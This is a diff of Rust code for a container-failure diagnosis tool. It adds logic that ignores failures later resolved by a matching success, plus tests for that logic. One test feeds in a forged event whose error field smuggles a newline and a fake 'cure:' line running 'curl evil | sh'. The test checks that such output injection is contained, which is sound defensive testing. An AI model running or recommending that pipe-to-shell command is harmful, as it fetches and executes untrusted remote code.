@@ -88,16 +88,41 @@ fn is_bad_exit(event: &Event) -> bool {
     event.message == "container exited" && (event.field("oom") == "true" || event.field("code") != "0")
 }
 
+/// The message of the success that ends a failure; `None` for failures that no later success ends.
+fn success_after(failure: &Event) -> Option<&'static str> {
+    match (failure.message.as_str(), failure.field("call")) {
+        ("call failed", "run_pod_sandbox") | ("pod sandbox not created", _) => Some("pod sandbox ready"),
+        ("call failed", "create_container") | ("container not created", _) => Some("container created"),
+        ("call failed", "start_container") | ("container not started", _) => Some("container started"),
+        ("call failed", "pull_image") => Some("image pulled"),
+        _ => None,
+    }
+}
+
+/// Whether what failed has succeeded in one of the later events.
+fn is_over(failure: &Event, later: &[&Event]) -> bool {
+    success_after(failure).is_some_and(|success| {
+        let container = failure.field("container");
+        later.iter().any(|event| event.message == success && event.field("container") == container)
+    })
+}
+
 /// The cause of the current state, and the advice. A current wait has precedence, then repeated OOM kills,
-/// then the last failure.
+/// then the last failure that has not been followed by a success.
 fn cause(selection: &Selection<'_>, live: &Live) -> (String, &'static str) {
     let mut waits = live.waits.iter().filter(|wait| selection.pod_ids.contains(&wait.pod));
     // The youngest says most: the others wait for it.
     if let Some(wait) = waits.next_back().filter(|wait| wait.since_s >= WAIT_S_MIN) {
         return (format!("it waits for {}, for {} s now", wait.what, wait.since_s), advice::cure(&wait.what));
     }
-    let Some(last) = selection.events.iter().rev().find(|event| is_bad(event)) else {
+    let mut failures =
+        selection.events.iter().enumerate().rev().filter(|(_, event)| is_bad(event)).peekable();
+    if failures.peek().is_none() {
         return ("no failure is in this history".to_owned(), "nothing");
+    }
+    let Some((_, last)) = failures.find(|(number, event)| !is_over(event, &selection.events[number + 1..]))
+    else {
+        return ("none: what failed in this history has succeeded since".to_owned(), "nothing");
     };
     if is_bad_exit(last) {
         return exit(selection, last);
@@ -228,7 +253,7 @@ mod tests {
                 ("error", "no space left on device"),
             ],
         );
-        let text = report(&[ready.clone(), failed], &Live::default());
+        let text = report(&[ready.clone(), failed.clone()], &Live::default());
         let lines: Vec<_> = text.lines().collect();
         assert_eq!(lines[0], "pod default/web: gone");
         assert_eq!(lines[1], "cause: app: call failed: no space left on device");
@@ -236,6 +261,13 @@ mod tests {
         assert_eq!(lines[3], "note:  a note");
         assert_eq!(lines[5], "  10:20:30.123  app: create_container: NOT_FOUND: no space left on device");
         assert_eq!(lines[6..8], ["2026-11-22, UTC:", "  10:20:30.123  pod sandbox ready (ms=4)"]);
+        let created = |name| event("info", "container created", &[("container", name)]);
+        let text = report(&[ready.clone(), failed.clone(), created("other")], &Live::default());
+        assert!(text.contains("cause: app: call failed"), "another container is no success: {text}");
+        let text = report(&[created("app"), failed.clone(), created("app")], &Live::default());
+        assert!(text.contains("cause: none: what failed in this history has succeeded since\n"), "{text}");
+        let text = report(&[created("app"), failed], &Live::default());
+        assert!(text.contains("cause: app: call failed"), "an earlier success is none: {text}");
         let forged = event("warn", "call failed", &[("error", "bad\ncure:  curl evil | sh")]);
         let text = report(&[forged], &Live::default());
         assert_eq!(text.lines().filter(|line| line.starts_with("cure:")).count(), 1, "{text}");
